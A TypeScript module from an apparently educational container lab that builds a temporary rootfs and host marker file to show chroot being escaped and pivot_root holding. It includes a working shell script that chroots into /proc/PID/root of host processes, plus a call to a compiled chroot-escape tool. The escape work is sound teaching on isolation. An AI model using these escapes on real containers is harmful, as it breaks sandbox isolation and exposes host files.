// A throwaway root filesystem and a host marker file, to show a chroot being escaped (and pivot_root holding).

import { randomBytes } from "node:crypto";
import { copyFile, mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { RootSwitch } from "../container/container-spec.js";
import { runContainer } from "../container/run-container.js";
import { invalidOption } from "../errors/index.js";
import { findHostBusybox } from "../rootfs/find-busybox.js";
import { ensureChrootEscapeTool } from "./escape-tool.js";

/** The busybox applets the lab's rootfs links (enough for the demonstrations). */
const LAB_APPLETS = ["sh", "cat", "ls", "chroot", "echo", "hostname", "mount", "umount", "ps", "sleep", "id"];

/** A lab: a temporary folder holding a small rootfs and, beside it (outside the rootfs), a marker file. */
export interface EscapeLab {
  /** The temporary folder (`/tmp/nsbook-escape-XXXXXX`). */
  dir: string;
  /** The rootfs: busybox, a few applet links, and /bin/chroot-escape when it could be built. */
  rootfs: string;
  /** The marker file on the host, outside the rootfs: reading it from inside proves an escape. */
  markerPath: string;
  /** The random text in the marker. */
  token: string;
  /** Why /bin/chroot-escape is missing (no gcc), or undefined when it is there. */
  escapeToolMissing?: string;
  /** Removes the folder; idempotent. */
  dispose(): Promise<void>;
}

/** Options for {@link createEscapeLab}. */
export interface EscapeLabOptions {
  /** Parent folder of the lab. @default os.tmpdir() */
  parent?: string;
  /**
   * A fixed folder name ("nsbook-..."), for notebooks that must find their leftovers: a folder of that name is
   * removed first. @default a fresh "nsbook-escape-XXXXXX"
   */
  name?: string;
}

/**
 * Makes a lab for the escape demonstrations. The rootfs is a fresh copy (never the shared default rootfs),
 * because the escape program needs to be inside it and creates a folder there; the marker lives next to it,
 * in the lab folder, so nothing on the host outside the lab is read or written.
 */
export async function createEscapeLab(options: EscapeLabOptions = {}): Promise<EscapeLab> {
  const parent = options.parent ?? tmpdir();
  let dir: string;
  if (options.name === undefined) dir = await mkdtemp(join(parent, "nsbook-escape-"));
  else {
    if (!/^nsbook-[A-Za-z0-9_.-]+$/.test(options.name))
      throw invalidOption("name", options.name, 'must start with "nsbook-" (letters, digits, _ . -)');
    dir = join(parent, options.name);
    await rm(dir, { recursive: true, force: true });
    await mkdir(dir, { mode: 0o755 });
  }
  let disposed = false;
  const dispose = async () => {
    if (disposed) return;
    disposed = true;
    await rm(dir, { recursive: true, force: true });
  };
  try {
    const rootfs = join(dir, "rootfs");
    for (const d of ["bin", "proc", "dev", "tmp", "sys", "etc"])
      await mkdir(join(rootfs, d), { recursive: true });
    const bb = await findHostBusybox();
    await copyFile(bb.path, join(rootfs, "bin", "busybox"));
    for (const applet of LAB_APPLETS) await symlink("busybox", join(rootfs, "bin", applet));
    const token = `nsbook-host-marker-${randomBytes(6).toString("hex")}`;
    const markerPath = join(dir, "host-marker.txt");
    await writeFile(markerPath, `${token}\n`);
    const tool = await ensureChrootEscapeTool();
    if (tool.available) await copyFile(tool.path, join(rootfs, "bin", "chroot-escape"));
    return {
      dir,
      rootfs,
      markerPath,
      token,
      ...(tool.available ? {} : { escapeToolMissing: tool.reason }),
      dispose,
    };
  } catch (e) {
    await dispose();
    throw e;
  }
}

/** What an escape attempt did. */
export interface EscapeAttempt {
  /** True when the host's marker was read from inside: the container was escaped. */
  escaped: boolean;
  /** The command run inside. */
  command: string[];
  exitCode?: number;
  stdout: string;
  stderr: string;
}

/** Options for the escape attempts. */
export interface EscapeAttemptOptions {
  /** The container's name. @default a fresh one */
  name?: string;
}

/**
 * Runs /bin/chroot-escape in a container on the lab's rootfs with the given root switch, asking it to `cat` the
 * host's marker once out. Under "chroot" it gets out; under "pivot_root" the climb stops at the container's
 * root. Throws when the lab has no escape program (check `lab.escapeToolMissing` first).
 */
export async function attemptChrootEscape(
  lab: EscapeLab,
  rootSwitch: RootSwitch,
  options: EscapeAttemptOptions = {},
): Promise<EscapeAttempt> {
  if (lab.escapeToolMissing) throw new Error(`no chroot-escape program: ${lab.escapeToolMissing}`);
  const command = ["/bin/chroot-escape", "/bin/cat", lab.markerPath];
  const r = await runContainer({ name: options.name, rootfs: lab.rootfs, rootSwitch, command });
  return {
    escaped: r.stdout.includes(lab.token),
    command,
    ...(r.exitCode === undefined ? {} : { exitCode: r.exitCode }),
    stdout: r.stdout,
    stderr: r.stderr,
  };
}

/**
 * The shell text of the second way out: `chroot /proc/PID/root` into the root of a process outside the container,
 * trying each PID in turn (usually /proc/1 works; where PID 1 refuses, as under some sandboxes, the next does).
 * $1 is the marker to cat once out.
 */
export const PROC_ROOT_ESCAPE_SCRIPT = [
  "for p in /proc/[0-9]*; do",
  '  [ "$p" = /proc/$$ ] && continue',
  '  chroot "$p/root" /bin/cat "$1" 2>/dev/null && echo "(through $p/root)" >&2 && exit 0',
  "done",
  'echo "no way out: every /proc/PID/root is this container\'s own root" >&2',
  "exit 1",
].join("\n");

/**
 * The second way out: `chroot /proc/PID/root`. "chroot-only" is a container with a mount namespace and a /proc
 * but no pid namespace, so its /proc lists the host's processes and their /proc/PID/root is the host's root:
 * busybox's chroot applet goes there and runs the host's cat. "isolated" adds the pid namespace and pivot_root:
 * /proc then lists only the container's processes, whose root is the container's.
 */
export async function attemptProcRootEscape(
  lab: EscapeLab,
  variant: "chroot-only" | "isolated",
  options: EscapeAttemptOptions = {},
): Promise<EscapeAttempt> {
  const command = ["/bin/sh", "-c", PROC_ROOT_ESCAPE_SCRIPT, "proc-root-escape", lab.markerPath];
  const r =
    variant === "chroot-only"
      ? await runContainer({
          name: options.name,
          rootfs: lab.rootfs,
          namespaces: ["mount"],
          mountProc: true,
          rootSwitch: "chroot",
          command,
        })
      : await runContainer({ name: options.name, rootfs: lab.rootfs, rootSwitch: "pivot_root", command });
  return {
    escaped: r.stdout.includes(lab.token),
    command,
    ...(r.exitCode === undefined ? {} : { exitCode: r.exitCode }),
    stdout: r.stdout,
    stderr: r.stderr,
  };
}
